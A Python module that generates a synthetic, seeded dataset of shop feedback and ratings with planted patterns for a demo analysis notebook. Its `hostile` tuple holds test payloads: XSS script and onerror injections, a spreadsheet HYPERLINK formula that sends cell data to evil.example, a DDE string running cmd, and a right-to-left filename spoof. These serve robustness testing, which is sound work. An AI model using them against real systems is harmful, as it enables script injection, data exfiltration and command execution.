"""The demo project: a year and a half of feedback on a fictional shop system, with a planted story.

`PLANTED` describes what there is to find. Everything else is everyday noise: a steady mix of types that varies with the
weekday and slightly with the season. The same seed and end always produce the same records.
"""

from __future__ import annotations

import random
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, time, timedelta, timezone
from typing import TYPE_CHECKING, Final

import numpy as np

from seggwat_nb.demo import phrases
from seggwat_nb.demo.state import moment_of

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Mapping, Sequence
    from typing import Any

    from seggwat_nb.demo.phrases import Talk
    from seggwat_nb.demo.state import Record

__all__ = ["DAYS", "PLANTED", "Planted", "as_of", "docs_feedback", "shop_feedback", "shop_ratings", "stages"]

DAYS: Final = 548
"""Eighteen months in days."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Planted:
    """What there is to find in the demo project.

    Attributes
    ----------
    releases : tuple of str
        Versions in order. Each is live for an equal part of the time.
    broken_release, broken_path : str
        The release that breaks payment, and where. About two thirds of its items are bugs, compared with one third for
        others.
    growing_path, growing_type : str
        A request that was rare until eight weeks ago and has become more frequent ever since.
    recurring_path : str
        Where a bug was reported often, less after a fix, and often again after a later release.
    fixed_in : dict of str to str
        Path to the release that the notes of its resolved items name: the fix of the broken release, which helped, that
        of the recurring bug, which came back with ``back_in``, and that of the growing request, which did not help.
    back_in : str
        The release that brought the recurring bug back.
    loud_submitter : str
        A person who sent ``loud_items`` items on one day, ``loud_days_ago`` days before the end.
    near_duplicates : tuple of tuple of str
        Messages with almost the same words, each from a different person.
    hostile : tuple of str
        Messages that attempt an injection or other mischief.
    unknown : tuple of (str, str)
        Columns and values outside the vocabularies, with three items each.
    personal : tuple of str
        Addresses and numbers that occur in messages.
    """

    releases: tuple[str, ...]
    broken_release: str
    broken_path: str
    growing_path: str
    growing_type: str
    recurring_path: str
    fixed_in: Mapping[str, str]
    back_in: str
    loud_submitter: str
    loud_items: int
    loud_days_ago: int
    near_duplicates: tuple[tuple[str, ...], ...]
    hostile: tuple[str, ...]
    unknown: tuple[tuple[str, str], ...]
    personal: tuple[str, ...]


PLANTED: Final = Planted(
    releases=(
        "1.8.0",
        "1.9.0",
        "1.10.0",
        "1.11.0",
        "2.0.0",
        "2.1.0",
        "2.2.0",
        "2.3.0",
        "2.4.0",
        "2.5.0",
        "2.6.0",
        "2.7.0",
    ),
    broken_release="2.4.0",
    broken_path="/checkout/payment",
    growing_path="/reports/export",
    growing_type="Feature",
    recurring_path="/settings/taxes",
    fixed_in={"/checkout/payment": "2.5.0", "/settings/taxes": "2.3.0", "/reports/export": "2.7.0"},
    back_in="2.5.0",
    loud_submitter="loud.customer@example.com",
    loud_items=40,
    loud_days_ago=100,
    near_duplicates=(
        (
            "Please add a dark mode to the admin pages, my eyes hurt at night.",
            "please add a dark mode to the admin pages, my eyes hurt at night",
            "Please add a dark mode for the admin pages, my eyes hurt at night!",
            "Pls add a dark mode to the admin pages, my eyes hurt at night.",
            "Please add dark mode to the admin pages - my eyes hurt at night.",
            "Please add a dark mode to the admin page, my eyes do hurt at night.",
        ),
        (
            "The password reset mail never arrives, not even in the spam folder.",
            "The password reset mail never arrives, not even in spam folder",
            "the password-reset mail never arrives, not even in the spam folder!!",
            "Password reset mail never arrives, not even in the spam folder.",
        ),
    ),
    hostile=(
        "</script><script>window.seggwatTrap = true</script> The page breaks when I paste this.",
        '<img src="https://tracker.example/pixel.png" onerror="window.seggwatTrap = true">',
        '=HYPERLINK("https://evil.example/?q="&A1, "Click for your refund")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1 for this",
        "-- please, no more pop-ups",
        "Invoice \u202egpj.exe\u202c was attached to my order.",
        "![picture](https://tracker.example/p.png) closes #1, thanks @everyone",
        "<!channel> <!here> everything is down, see <https://evil.example|our status page>",
        "Z\u0351\u036e\u0343a\u0364\u0363l\u036dg\u0342o\u0366 text spills over the line 🧨\x07",
        "Two\nlines,\r\nthree\tcolumns; \"quotes\" and 'more'",
        "This goes on and on. " * 190,
    ),
    unknown=(("type", "Idea"), ("status", "Snoozed"), ("source", "Zendesk")),
    personal=("jo.sample@example.org", "+1 555 0142", "maria.muster@example.com", "(555) 010-0199"),
)

_TYPES: Final = {"Bug": 0.30, "Feature": 0.18, "Improvement": 0.17, "Question": 0.15, "Praise": 0.14, "Other": 0.06}
_SOURCES: Final = {"Widget": 0.74, "Manual": 0.10, "SocialShare": 0.06, "Stripe": 0.06, "Polar": 0.04}
_CANCELLATIONS: Final = ("Stripe", "Polar")
_GROWTH: Final = (1, 1, 2, 3, 6, 9, 13, 18)
"""Requests for scheduled exports in each of the last eight weeks."""

_BROKEN_EXTRA: Final = 2.6
"""Bugs per day about payment while the broken release is live."""

_RECURRING: Final = 0.6
"""Share of everyday bugs that are the recurring one while it lasts."""

_BEFORE_FIX: Final = timedelta(days=60)

_RATED: Final = ("/cart", "/checkout/payment", "/search", "/help/shipping", "/help/returns", "/products")
_RATE: Final = 3.3
_WEEKEND: Final = 5
_OFFSET: Final = timezone(timedelta(hours=2))


def shop_feedback(*, seed: int, end: datetime, project_id: str) -> list[Record]:
    """Create the shop's feedback in the API's format."""
    maker = _Maker(seed, end, project_id)
    records = [maker.everyday(moment) for moment in maker.moments(_RATE)]
    records += [
        maker.make_broken(moment)
        for moment in maker.moments(_BROKEN_EXTRA)
        if maker.release(moment) == PLANTED.broken_release
    ]
    records += [maker.growing(moment) for moment in maker.growing_moments()]
    records += list(maker.loud())
    records += list(maker.make_repeats())
    records += list(maker.strange())
    return records


def docs_feedback(*, seed: int, end: datetime, project_id: str) -> list[Record]:
    """Create the manual's feedback: a second, smaller project without a story."""
    maker = _Maker(seed + 1, end, project_id)
    return [
        maker.make_record(phrases.load().docs, moment, source="Mintlify", version=None)
        for moment in maker.moments(0.55)
    ]


def shop_ratings(*, seed: int, end: datetime, project_id: str) -> list[Record]:
    """Create the shop's ratings in both of the API's formats."""
    maker = _Maker(seed + 2, end, project_id)
    return [maker.rating(moment) for moment in maker.moments(2.75)]


def as_of(records: Iterable[Mapping[str, Any]], moment: datetime, *, end: datetime) -> Iterator[dict[str, Any]]:
    """Yield feedback as it was at a given time: first New, then mostly Active, and finally in its last state.

    Later records are left out. A record's past depends only on its ID, so it is always the same.
    """
    for record in records:
        reached = [known for since, known in stages(record, end=end) if since <= moment]
        if reached:
            yield reached[-1]


def stages(record: Mapping[str, Any], *, end: datetime) -> list[tuple[datetime, dict[str, Any]]]:
    """Return the states of a record over time, each with the time from which it was current."""
    created = moment_of(record)
    chance = random.Random(record["id"])  # noqa: S311  # not for security
    first, then = sorted(chance.betavariate(1, 6) for _ in range(2))
    span = max(end - created, timedelta(0))
    early = {key: value for key, value in record.items() if key != "resolution_note" or value is None}
    found = [(created, early | {"status": "New"})]
    if record["status"] != "New":
        found.append((created + first * span, early | {"status": "Active"}))
    return [*found, (max(created, min(created + then * span, end)), dict(record))]


class _Maker:
    """Generates random records, always the same for a given seed and end."""

    def __init__(self, seed: int, end: datetime, project_id: str) -> None:
        self._chance = random.Random(seed)  # noqa: S311  # not for security
        self._recurs = random.Random(f"recurring {seed}")  # noqa: S311  # not for security
        self._salt = random.Random(f"{end}").getrandbits(96)  # noqa: S311  # a different end gives different IDs
        self._counts = np.random.default_rng(seed)
        self._end = end
        self._start = end - timedelta(days=DAYS)
        self._project_id = project_id
        self._phrases = phrases.load()
        self._people = [self._person(number) for number in range(420)]

    def moments(self, rate: float) -> list[datetime]:
        """Draw times: fewer on weekends, more by day than by night, and slightly more in winter."""
        midnight = datetime.combine(self._start.date(), time(), UTC)
        days = np.arange(DAYS + 1)
        weekday = (midnight.weekday() + days) % 7
        season = 1 + 0.12 * np.cos(2 * np.pi * (midnight.timetuple().tm_yday + days) / 365.25)
        expected = rate * np.where(weekday >= _WEEKEND, 0.55, 1.18) * season
        found = [
            midnight + timedelta(days=int(day), hours=self._chance.triangular(0, 24, 14))
            for day, count in enumerate(self._counts.poisson(expected))
            for _ in range(count)
        ]
        return [moment for moment in found if self._start <= moment <= self._end]

    def growing_moments(self) -> Iterator[datetime]:
        """Draw the times of requests for scheduled exports."""
        for week, count in enumerate(reversed(_GROWTH)):
            for _ in range(count):
                yield self._end - timedelta(days=7 * week + self._chance.uniform(0, 7))
        for _ in range(6):
            yield self._end - timedelta(days=self._chance.uniform(90, DAYS))

    def release(self, moment: datetime) -> str:
        """Return the release that was live at a given time."""
        place = (moment - self._start) / timedelta(days=DAYS) * len(PLANTED.releases)
        return PLANTED.releases[min(int(place), len(PLANTED.releases) - 1)]

    def everyday(self, moment: datetime) -> Record:
        source = self._one_of(_SOURCES)
        if source in _CANCELLATIONS:
            return self.make_record(
                self._phrases.cancelled, moment, source=source, type="Other", version=None, path=None
            )
        kind = self._one_of(_TYPES)
        version = f"{moment:%Y.%m}" if source == "SocialShare" else self._spelling(moment)
        record = self.make_record(self._phrases.by_type[kind], moment, source=source, type=kind, version=version)
        if self._chance.random() < 0.04:
            record["message"] += f" Write to {PLANTED.personal[0]} or call {PLANTED.personal[1]}."
        elif kind in self._phrases.other_languages and self._chance.random() < 0.04:
            record["message"] = self._chance.choice(self._phrases.other_languages[kind])
        elif kind == "Bug" and self._recurs_at(moment) and self._recurs.random() < _RECURRING:
            return self._recurring(record, moment)
        return record

    def make_broken(self, moment: datetime) -> Record:
        record = self.make_record(self._phrases.broken, moment, type="Bug", version=self._spelling(moment, always=True))
        return self._add_fix(record, PLANTED.broken_path, moment)

    def growing(self, moment: datetime) -> Record:
        version = self._spelling(moment) if self._chance.random() < 0.5 else None
        record = self.make_record(self._phrases.growing, moment, type=PLANTED.growing_type, version=version)
        return self._add_fix(record, PLANTED.growing_path, moment)

    def _recurs_at(self, moment: datetime) -> bool:
        """Return whether the recurring bug was there: some weeks before its fix, and since it came back."""
        fixed = self._launch_of(PLANTED.fixed_in[PLANTED.recurring_path])
        return fixed - _BEFORE_FIX <= moment < fixed or moment >= self._launch_of(PLANTED.back_in)

    def _recurring(self, record: Record, moment: datetime) -> Record:
        """Return a bug as a report of the recurring one. Draws nothing that later records depend on."""
        path, core = self._recurs.choice(self._phrases.recurring.cores)
        said = f"{core} {self._recurs.choice(self._phrases.recurring.details)}"
        return self._add_fix({**record, "message": said, "path": path}, path, moment)

    def _add_fix(self, record: Record, path: str, moment: datetime) -> Record:
        """Name the release with the fix in the note of a resolved item that is older than it."""
        release = PLANTED.fixed_in[path]
        if record["status"] != "Resolved" or moment >= self._launch_of(release):
            return record
        return {**record, "resolution_note": f"Fixed in {release}."}

    def _launch_of(self, release: str) -> datetime:
        """Return when a release went live."""
        return self._start + timedelta(days=DAYS) * (PLANTED.releases.index(release) / len(PLANTED.releases))

    def loud(self) -> Iterator[Record]:
        day = datetime.combine((self._end - timedelta(days=PLANTED.loud_days_ago)).date(), time(8), UTC)
        for number in range(PLANTED.loud_items):
            record = self.make_record(
                self._phrases.loud, day + timedelta(minutes=13 * number), type="Other", version=None
            )
            yield record | {"submitted_by": PLANTED.loud_submitter}

    def make_repeats(self) -> Iterator[Record]:
        """Yield the near-duplicate messages, by different people over some weeks."""
        for group, kind in zip(PLANTED.near_duplicates, ("Feature", "Bug"), strict=True):
            for number, message in enumerate(group):
                moment = self._end - timedelta(days=150 + 6 * number, hours=self._chance.uniform(0, 20))
                version = self._spelling(moment)
                record = self.make_record(self._phrases.by_type[kind], moment, type=kind, version=version)
                yield record | {"message": message, "submitted_by": self._people[7 * number + len(group)]}

    def strange(self) -> Iterator[Record]:
        """Yield messages that attempt mischief, unknown values and personal data."""
        for number, message in enumerate(PLANTED.hostile):
            moment = self._end - timedelta(days=2 + 31 * number, hours=3)
            record = self.make_record(self._phrases.by_type["Other"], moment, type="Other", version=None)
            yield (
                record | {"message": message, "path": f"/{message[:30]}"}
                if number < 2
                else record | {"message": message}
            )
        for column, value in PLANTED.unknown:
            for number in range(3):
                moment = self._end - timedelta(days=20 + 97 * number, hours=5)
                yield self.make_record(self._phrases.by_type["Question"], moment, version=None) | {column: value}
        late = self._end - timedelta(days=9)
        address, phone = PLANTED.personal[2:]
        record = self.make_record(self._phrases.by_type["Question"], late, version=None)
        yield record | {"message": f"Reach me at {address} or {phone}."}

    def make_record(
        self,
        talk: Talk,
        moment: datetime,
        *,
        version: str | None,
        source: str = "Widget",
        type: str = "Question",  # noqa: A002  # the API's word
        path: str | None = "",
    ) -> Record:
        """Compose a record. Keys that an app does not send are randomly missing or null."""
        where, core = self._chance.choice(talk.cores)
        record: Record = {
            "id": self._id(),
            "project_id": self._project_id,
            "message": self._fill_in(f"{core} {self._chance.choice(talk.details)}"),
            "status": self._status(moment),
            "type": type,
            "source": source,
            "created_at": self._format_moment(moment),
            "archived": False,
        }
        note = self._chance.choice(self._phrases.notes) if record["status"] in {"Resolved", "Closed"} else None
        person = self._chance.choice(self._people) if self._chance.random() < 0.65 else None
        optional = {
            "path": None if path is None else self._fill_in(where) or None,
            "version": version,
            "submitted_by": person,
            "resolution_note": note if self._chance.random() < 0.5 else None,
        }
        return record | {
            key: value for key, value in optional.items() if value is not None or self._chance.random() < 0.3
        }

    def rating(self, moment: datetime) -> Record:
        path = self._chance.choice(
            ("/cart", "/checkout/payment", "/search", "/help/shipping", "/help/returns", "/products")
        )
        hurt = path == PLANTED.broken_path and self.release(moment) == PLANTED.broken_release
        record: Record = {
            "id": self._id(),
            "project_id": self._project_id,
            "path": path,
            "version": self._spelling(moment),
            "archived": False,
            "created_at": self._format_moment(moment),
        }
        if self._chance.random() < 0.5:
            record["submitted_by"] = self._chance.choice(self._people)
        kind = self._chance.choices(("helpful", "star", "nps"), (0.55, 0.27, 0.18))[0]
        if kind == "helpful":
            answer = self._chance.random() < (0.25 if hurt else 0.74)
            if self._chance.random() < 0.4:
                return record | {"value": answer}
            return record | {"rating_type": kind, "value": {"type": kind, "value": answer}}
        if kind == "star":
            longest = self._chance.choices((5, 3), (0.8, 0.2))[0]
            step = 2 if longest == 5 else 1
            mean = longest * (0.4 if hurt else 0.78)
            stars = round(min(longest, max(1, self._chance.gauss(mean, longest / 6))) * step) / step
            return record | {"rating_type": kind, "value": {"type": kind, "value": stars, "max_stars": longest}}
        score = round(min(10, max(0, self._chance.gauss(4 if hurt else 8, 2))))
        return record | {"rating_type": kind, "value": {"type": kind, "value": score}}

    def _status(self, moment: datetime) -> str:
        """Draw a status: the older an item, the likelier it is closed."""
        age = (self._end - moment) / timedelta(days=1)
        if self._chance.random() < 1 - 0.5 ** (age / 45):
            return "Resolved" if self._chance.random() < 0.7 else "Closed"
        return self._chance.choices(("New", "Active", "Assigned", "Hold"), (60 / (age + 1) + 1, 2, 1, 0.6))[0]

    def _spelling(self, moment: datetime, *, always: bool = False) -> str | None:
        """Return the live release in one of the spellings that apps use."""
        release = self.release(moment)
        chance = self._chance.random()
        if always or chance < 0.62:
            return release
        if chance < 0.78:
            return f"v{release}"
        following = PLANTED.releases[(PLANTED.releases.index(release) + 1) % len(PLANTED.releases)]
        rare: Sequence[str | None] = (
            f"{following}-beta.2",
            f"{release}-12-g{self._chance.getrandbits(28):07x}",
            "main",
            "",
            None,
        )
        return self._chance.choice(rare)

    def _fill_in(self, text: str) -> str:
        text = text.replace("{id}", f"{self._chance.getrandbits(48):012x}")
        for name, choices in self._phrases.fillers.items():
            text = text.replace(f"{{{name}}}", self._chance.choice(choices))
        return text[:1].upper() + text[1:]

    def _format_moment(self, moment: datetime) -> str:
        """Format a time in one of the styles that clients use."""
        style = self._chance.randrange(4)
        if style == 0:
            return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        if style == 1:
            return moment.astimezone(_OFFSET).isoformat(timespec="seconds")
        return moment.isoformat(timespec="seconds").replace("+00:00", "Z")

    def _id(self) -> str:
        if self._chance.random() < 0.5:
            return f"{self._chance.getrandbits(96) ^ self._salt:024x}"
        return str(uuid.UUID(int=self._chance.getrandbits(128) ^ self._salt, version=4))

    def _person(self, number: int) -> str:
        return f"customer{number}@example.com" if number % 2 else f"user_{self._chance.getrandbits(40):010x}"

    def _one_of(self, weights: dict[str, float]) -> str:
        return self._chance.choices(list(weights), list(weights.values()))[0]
